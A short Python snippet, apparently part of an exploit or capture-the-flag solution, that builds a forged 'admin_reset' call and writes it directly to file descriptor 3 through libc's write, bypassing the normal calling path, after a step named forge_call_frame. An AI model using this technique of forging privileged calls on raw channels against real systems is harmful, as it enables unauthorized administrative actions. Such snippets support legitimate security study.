# a forged call of admin_reset written by libc's write (after forge_call_frame)
import ctypes, time
b = call(b'admin_reset', b'{"args":[],"kwargs":{}}')
ctypes.CDLL(None).write(3, b, len(b))
time.sleep(5)
